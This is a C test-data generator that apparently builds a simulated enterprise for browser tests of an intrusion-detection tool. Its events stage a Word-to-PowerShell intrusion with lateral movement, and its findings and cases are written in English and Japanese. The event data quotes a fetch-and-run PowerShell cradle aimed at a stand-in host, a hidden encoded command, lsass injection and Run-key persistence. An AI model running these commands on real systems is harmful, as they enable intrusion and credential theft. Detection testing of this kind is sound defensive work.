/*
 * A small watched enterprise in a data folder, for the browser tests: three subnets, an intrusion
 * that goes from a document on PC-020 to DEV-007 and back after a restart, three cases.
 *
 *     make_data DIR          the whole folder
 *     make_data DIR live N   N more cases, one every 300 ms, while somebody watches
 */
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

#include "store/store.h"

static const int64_t monday = INT64_C(1718582400) * TIME_SECOND; /* 2024-06-17T00:00:00Z */

static void must(int error, struct store *store)
{
    if (error < 0) {
        fprintf(stderr, "make_data: %s\n", store_error(store));
        exit(1);
    }
}

/* ---- events ------------------------------------------------------------------------ */

/* What happened: minutes after 10:00 UTC, and the fields that matter for its kind. */
struct happening {
    int minute;
    uint8_t category, action;
    const char *host, *user, *process, *executable;
    const char *other;  /* parent's entity id, target, or "" */
    const char *object; /* path, key, address, name: by category */
    const char *detail; /* command line, registry data, or script */
};

#define WORD    "C:\\Program Files\\Microsoft Office\\winword.exe"
#define SHELL   "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#define REMOTE  "C:\\Windows\\System32\\wsmprovhost.exe"
#define RUN_KEY "HKU\\S-1-5-21-7\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater"
#define UPDATER "C:\\Users\\sato\\AppData\\Roaming\\updater.exe"

static const struct happening story[] = {
    {-3, CATEGORY_file, ACTION_create, "PC-020", "tanaka", "p-40",
     "C:\\Program Files\\Mail\\mail.exe", "", "C:\\Users\\tanaka\\Downloads\\invoice.docm", ""},
    {-2, CATEGORY_process, ACTION_start, "PC-020", "tanaka", "p-90", WORD, "p-10", "",
     "winword.exe C:\\Users\\tanaka\\Downloads\\invoice.docm"},
    {-1, CATEGORY_file, ACTION_access, "PC-020", "tanaka", "p-90", WORD, "",
     "C:\\Users\\tanaka\\Downloads\\invoice.docm", ""},
    {0, CATEGORY_process, ACTION_start, "PC-020", "tanaka", "p-100", SHELL, "p-90", "",
     "powershell.exe -w hidden -enc SQBFAFgA"},
    {1, CATEGORY_dns, ACTION_query, "PC-020", "tanaka", "p-100", SHELL, "",
     "cdn.update-files.example", ""},
    {2, CATEGORY_network, ACTION_connect, "PC-020", "tanaka", "p-100", SHELL, "", "203.0.113.9",
     ""},
    {3, CATEGORY_script, ACTION_execute, "PC-020", "tanaka", "p-100", SHELL, "", "",
     "IEX (New-Object Net.WebClient).DownloadString('https://cdn.update-files.example/a')"},
    {6, CATEGORY_process, ACTION_start, "PC-020", "tanaka", "p-101",
     "C:\\Windows\\System32\\whoami.exe", "p-100", "", "whoami /all"},
    {7, CATEGORY_process, ACTION_start, "PC-020", "tanaka", "p-102",
     "C:\\Windows\\System32\\net.exe", "p-100", "", "net group \"Domain Admins\" /domain"},
    {10, CATEGORY_process, ACTION_inject, "PC-020", "tanaka", "p-100", SHELL, "p-60",
     "C:\\Windows\\System32\\lsass.exe", ""},
    {13, CATEGORY_network, ACTION_connect, "PC-020", "tanaka", "p-100", SHELL, "", "10.0.2.17", ""},
    {14, CATEGORY_process, ACTION_start, "DEV-007", "sato", "p-200", REMOTE, "p-190", "",
     "wsmprovhost.exe -Embedding"},
    {20, CATEGORY_file, ACTION_create, "DEV-007", "sato", "p-200", REMOTE, "", UPDATER, ""},
    {30, CATEGORY_registry, ACTION_change, "DEV-007", "sato", "p-200", REMOTE, "", RUN_KEY,
     UPDATER},
    {95, CATEGORY_process, ACTION_start, "DEV-007", "sato", "p-210", UPDATER, "p-205", "",
     "updater.exe"},
    {96, CATEGORY_network, ACTION_connect, "DEV-007", "sato", "p-210", UPDATER, "", "203.0.113.9",
     ""},
    {97, CATEGORY_file, ACTION_create, "DEV-007", "sato", "p-210", UPDATER, "",
     "C:\\Users\\sato\\AppData\\Local\\Temp\\design.zip", ""},
};
enum { STORY = sizeof story / sizeof *story };

static void text_set(struct batch *batch, uint32_t *column, const char *text)
{
    if (strings_intern(&batch->strings, bytes_of(text), &column[batch->rows]) < 0)
        exit(1);
}

static void object_set(struct batch *batch, const struct happening *what)
{
    struct batch_columns *columns = &batch->columns;

    switch (what->category) {
    case CATEGORY_file:
        text_set(batch, columns->file_path, what->object);
        break;
    case CATEGORY_registry:
        text_set(batch, columns->registry_path, what->object);
        text_set(batch, columns->registry_data, what->detail);
        break;
    case CATEGORY_dns:
        text_set(batch, columns->dns_question_name, what->object);
        text_set(batch, columns->dns_resolved_ip, "203.0.113.9");
        break;
    case CATEGORY_network:
        if (!ip_parse(bytes_of(what->object), &columns->destination_ip[batch->rows]))
            exit(1);
        columns->destination_port[batch->rows] = what->object[0] == '1' ? 5985 : 443;
        columns->network_transport[batch->rows] = 6;
        columns->network_direction[batch->rows] = DIRECTION_egress;
        break;
    case CATEGORY_script:
        text_set(batch, columns->script_text, what->detail);
        break;
    default:
        if (what->action == ACTION_inject) {
            text_set(batch, columns->target_process_entity_id, what->other);
            text_set(batch, columns->target_process_executable, what->object);
        } else {
            text_set(batch, columns->process_parent_entity_id, what->other);
            text_set(batch, columns->process_command_line, what->detail);
        }
    }
}

static void row_add(struct batch *batch, const struct happening *what, int64_t time,
                    uint64_t offset)
{
    struct batch_columns *columns = &batch->columns;

    columns->time[batch->rows] = time;
    columns->event_created[batch->rows] = TIME_NONE;
    columns->event_category[batch->rows] = what->category;
    columns->event_action[batch->rows] = what->action;
    columns->event_source[batch->rows] = 1;
    columns->event_offset[batch->rows] = offset;
    text_set(batch, columns->host_name, what->host);
    text_set(batch, columns->user_name, what->user);
    text_set(batch, columns->process_entity_id, what->process);
    text_set(batch, columns->process_executable, what->executable);
    object_set(batch, what);
    batch->rows++;
}

static int64_t story_time(int minute)
{
    return monday + 10 * TIME_HOUR + minute * TIME_MINUTE;
}

static void put_events(struct store *store)
{
    struct batch *batch = batch_create();
    char process[16], host[16];

    if (!batch)
        exit(1);
    /* Quiet mornings, so that there is something to scroll through. */
    for (int i = 0; i < 3000; i++) {
        struct happening quiet = {0,
                                  CATEGORY_process,
                                  ACTION_start,
                                  host,
                                  "user",
                                  process,
                                  "C:\\Windows\\System32\\svchost.exe",
                                  "p-1",
                                  "",
                                  "svchost.exe -k"};

        snprintf(process, sizeof process, "q-%d", i);
        snprintf(host, sizeof host, "PC-%03d", 15 + i % 25);
        row_add(batch, &quiet, monday + i * 10 * TIME_SECOND, 100000 + (uint64_t)i);
    }
    for (int i = 0; i < STORY; i++)
        row_add(batch, &story[i], story_time(story[i].minute), (uint64_t)i * 100);
    must(store_put_rows(store, batch), store);
    batch_destroy(batch);
}

/* ---- hosts, findings, cases, health -------------------------------------------------- */

static const char *host_name(int i, char name[16])
{
    snprintf(name, 16, "%s-%03d", i < 5 ? "SRV" : i < 15 ? "DEV" : "PC", i);
    return name;
}

static void put_host(struct store *store, int i)
{
    static const char *const subnets[] = {"10.0.1.0/24", "10.0.2.0/24", "10.0.3.0/24"};
    static const char *const groups[] = {"server", "development", "office"};
    int group = i < 5 ? 0 : i < 15 ? 1 : 2;
    char name[16], address[24];
    struct store_host host = {
        .name = bytes_of(host_name(i, name)),
        .address = {address, 0},
        .subnet = bytes_of(subnets[group]),
        .peer_group = bytes_of(groups[group]),
        .first_seen = monday - 14 * TIME_DAY,
        .last_seen = monday + 12 * TIME_HOUR,
        .days = i == 39 ? 1 : 14,
        .events = 30000 + (uint64_t)i * 137,
        .learning = i == 39,
    };

    snprintf(address, sizeof address, "10.0.%d.%d", group + 1, i + 10);
    host.address = bytes_of(address);
    must(store_put_host(store, &host), store);
}

static void put_relation(struct store *store, const char *from, const char *to, int days,
                         uint64_t events, int64_t first_seen)
{
    struct store_relation relation = {
        .kind = BYTES("host"),
        .host = bytes_of(from),
        .peer = bytes_of(to),
        .normal_days = (uint64_t)days,
        .events = events,
        .first_seen = first_seen,
        .last_seen = monday + 12 * TIME_HOUR,
        .abnormal = days == 0,
    };

    must(store_put_relation(store, &relation), store);
}

static void put_hosts(struct store *store)
{
    char from[16], to[16];

    for (int i = 0; i < 40; i++)
        put_host(store, i);
    for (int i = 5; i < 40; i++)
        for (int server = 0; server < 5; server++)
            if ((i + server) % 3)
                put_relation(store, host_name(i, from), host_name(server, to), 9 + (i + server) % 6,
                             100 + (uint64_t)i, monday - (14 - i % 5) * TIME_DAY);
    put_relation(store, "PC-020", "DEV-007", 0, 4, story_time(13));
    put_relation(store, "DEV-007", "10.0.1.12", 0, 2, story_time(30)); /* SRV-002 */
}

struct telling {
    uint32_t case_id;
    double score;
    uint8_t level;
    int minute, story; /* story: index of the proving event */
    const char *host, *process, *title, *title_ja, *why, *why_ja, *how, *how_ja;
    const char *attack;
    enum observable_type type;
    const char *value;
};

static const struct telling tellings[] = {
    {1, 0.97, 4, 0, 3, "PC-020", "p-100", "winword.exe started powershell.exe",
     "winword.exe が powershell.exe を起動",
     "winword.exe started powershell.exe on PC-020; on no host did it ever (0 of 560 host-days).",
     "PC-020 で winword.exe が powershell.exe を起動しました。どのホストでも前例がありません(560 "
     "ホスト日で 0 回)。",
     "Its command line hides the window and decodes a script.",
     "コマンドラインはウィンドウを隠し、スクリプトを復号します。", "T1059.001", OBSERVABLE_ip,
     "203.0.113.9"},
    {1, 0.99, 4, 13, 10, "PC-020", "p-100", "PC-020 reached DEV-007 by WinRM",
     "PC-020 が DEV-007 に WinRM で接続",
     "powershell.exe on PC-020 connected to DEV-007, port 5985.",
     "PC-020 の powershell.exe が DEV-007 のポート 5985 に接続しました。",
     "No office PC ever reached a development host this way (0 of 350 host-days).",
     "事務用 PC から開発ホストへのこの接続は前例がありません(350 ホスト日で 0 回)。", "T1021.006",
     OBSERVABLE_host, "DEV-007"},
    {1, 0.95, 4, 30, 13, "DEV-007", "p-200", "A Run key was written on DEV-007",
     "DEV-007 で Run キーが書き込まれた",
     "wsmprovhost.exe wrote a Run key (0 of 140 host-days in development).",
     "wsmprovhost.exe が Run キーに書き込みました(開発部門の 140 ホスト日で 0 回)。",
     "It starts updater.exe at the next logon.", "次のログオンで updater.exe を起動します。",
     "T1547.001", OBSERVABLE_registry, RUN_KEY},
    {2, 0.83, 3, -240, 5, "PC-031", "p-300", "tool.exe sends to 203.0.113.9",
     "tool.exe が 203.0.113.9 に送信", "tool.exe was first seen 4 minutes before.",
     "tool.exe は 4 分前に初めて現れました。",
     "No host ever talked to 203.0.113.9 (0 of 560 host-days).",
     "203.0.113.9 と通信したホストはありません(560 ホスト日で 0 回)。", "T1071.001", OBSERVABLE_ip,
     "203.0.113.9"},
    {3, 0.41, 1, -420, 8, "DEV-011", "p-400", "psexec.exe ran on DEV-011",
     "DEV-011 で psexec.exe が実行された",
     "psexec.exe ran on DEV-011 on 2 of 140 host-days before.",
     "DEV-011 で psexec.exe は 140 ホスト日のうち 2 日だけ実行されています。",
     "Its user is an administrator.", "実行したのは管理者です。", "T1569.002", OBSERVABLE_file,
     "c:\\tools\\psexec.exe"},
};

static struct sentence say(const char *english, const char *japanese)
{
    return (struct sentence){bytes_of(english), bytes_of(japanese)};
}

static void put_finding(struct store *store, const struct telling *telling, uint64_t id)
{
    struct finding finding = {
        .id = id,
        .detector = "normal",
        .time_start = story_time(telling->minute),
        .time_end = story_time(telling->minute + 2),
        .score = telling->score,
        .level = telling->level,
        .host = bytes_of(telling->host),
        .process_entity_id = bytes_of(telling->process),
        .title = say(telling->title, telling->title_ja),
    };

    finding_explain(&finding, bytes_of(telling->why), bytes_of(telling->why_ja));
    finding_explain(&finding, bytes_of(telling->how), bytes_of(telling->how_ja));
    finding_observe(&finding, OBSERVABLE_process, bytes_of(telling->process));
    finding_observe(&finding, telling->type, bytes_of(telling->value));
    finding_prove(&finding, (struct event_id){1, (uint64_t)telling->story * 100});
    finding_technique(&finding, telling->attack);
    must(store_put_finding(store, &finding, telling->case_id), store);
}

static void put_case(struct store *store, uint32_t id, const struct telling *telling,
                     struct sentence title, struct sentence summary, int hosts)
{
    struct incident incident = {
        .id = id,
        .level = telling->level,
        .score = telling->score,
        .time_start = story_time(telling->minute),
        .time_end = story_time(telling->minute + 31),
        .opened = story_time(telling->minute + 2),
        .findings = 1,
        .hosts = {bytes_of(telling->host), BYTES("DEV-007")},
        .host_count = (uint32_t)hosts,
        .title = title,
        .summary = summary,
    };

    must(store_put_case(store, &incident), store);
}

static void put_cases(struct store *store)
{
    for (size_t i = 0; i < sizeof tellings / sizeof *tellings; i++)
        put_finding(store, &tellings[i], 0xa1 + i);
    put_case(store, 1, &tellings[0],
             say("PowerShell from a document on PC-020 reached DEV-007",
                 "PC-020 の文書から起動した PowerShell が DEV-007 に到達"),
             say("Somebody runs commands on PC-020 and moved on to DEV-007; no host ever did that "
                 "(0 of 560 host-days).",
                 "何者かが PC-020 でコマンドを実行し、DEV-007 へ移動しました。過去 560 "
                 "ホスト日で一度もない動きです。"),
             2);
    put_case(store, 2, &tellings[3],
             say("New program on PC-031 talks to an address nobody talks to",
                 "PC-031 の新しいプログラムが、誰も通信しない宛先と通信"),
             say("A program first seen today on PC-031 sends to 203.0.113.9 (0 of 560 host-days).",
                 "今日初めて見たプログラムが PC-031 から 203.0.113.9 へ送信しています(560 "
                 "ホスト日で 0 回)。"),
             1);
    put_case(store, 3, &tellings[4],
             say("An administrator's tool ran on DEV-011", "DEV-011 で管理者用ツールが実行された"),
             say("PsExec ran on DEV-011, where it ran on 2 of 140 host-days.",
                 "PsExec が DEV-011 で実行されました(140 ホスト日のうち 2 日)。"),
             1);
}

static void put_health(struct store *store)
{
    static const struct {
        const char *name;
        double value;
    } values[] = {
        {"events_total", 1251758}, {"events_per_second", 284120},
        {"lag_seconds", 0.4},      {"late_events", 17},
        {"memory_bytes", 312e6},   {"memory_limit_bytes", 2147483648.0},
        {"queue_depth", 2},        {"relations_held", 184220},
        {"relations_evicted", 0},  {"hosts_learning", 1},
        {"hosts_total", 40},       {"threshold", 0.37},
        {"budget", 0.05},
    };
    struct store_source sources[] = {
        {.id = 1,
         .path = BYTES("logs/sysmon.ndjson.zst"),
         .format = BYTES("sysmon-json"),
         .reasons = BYTES("{\"not JSON\":2,\"no time\":1}"),
         .clock_used = BYTES("@timestamp"),
         .size = 104857600,
         .offset = 104857600,
         .read = 1203551,
         .kept = 1203548,
         .refused = 3,
         .clock_disagreements = 412,
         .done = true},
        {.id = 2,
         .path = BYTES("logs/security.evtx"),
         .format = BYTES("evtx"),
         .reasons = BYTES("{}"),
         .clock_used = BYTES("event"),
         .size = 20971520,
         .offset = 9000000,
         .read = 48210,
         .kept = 48210},
    };

    for (size_t i = 0; i < sizeof values / sizeof *values; i++)
        must(store_put_health(store, values[i].name, values[i].value, (struct bytes){"", 0}),
             store);
    must(store_put_health(store, "learned_until", (double)(monday / TIME_SECOND),
                          (struct bytes){"", 0}),
         store);
    for (size_t i = 0; i < sizeof sources / sizeof *sources; i++)
        must(store_put_source(store, &sources[i]), store);
}

/* ---- while somebody watches ---------------------------------------------------------- */

static void put_live_cases(struct store *store, int count)
{
    const struct timespec pause = {0, 300 * 1000 * 1000};

    for (int i = 0; i < count; i++) {
        char title[64], title_ja[64];
        struct telling telling = tellings[3];
        uint32_t id = 100 + (uint32_t)i;

        snprintf(title, sizeof title, "Live case %d", i);
        snprintf(title_ja, sizeof title_ja, "ライブのケース %d", i);
        telling.case_id = id;
        put_finding(store, &telling, 0x1000 + (uint64_t)i);
        put_case(store, id, &telling, say(title, title_ja), say(title, title_ja), 1);
        must(store_commit(store), store);
        nanosleep(&pause, NULL);
    }
}

int main(int argc, char **argv)
{
    struct store *store = NULL;

    if (argc != 2 && !(argc == 4 && strcmp(argv[2], "live") == 0)) {
        fputs("usage: make_data DIR [live N]\n", stderr);
        return 2;
    }
    must(store_open_write(argv[1], &store), NULL);
    if (argc == 4) {
        put_live_cases(store, atoi(argv[3]));
    } else {
        put_events(store);
        put_hosts(store);
        put_cases(store);
        put_health(store);
        must(store_put_checkpoint(store, BYTES("made")), store);
        must(store_commit(store), store);
    }
    store_close(store);
    return 0;
}
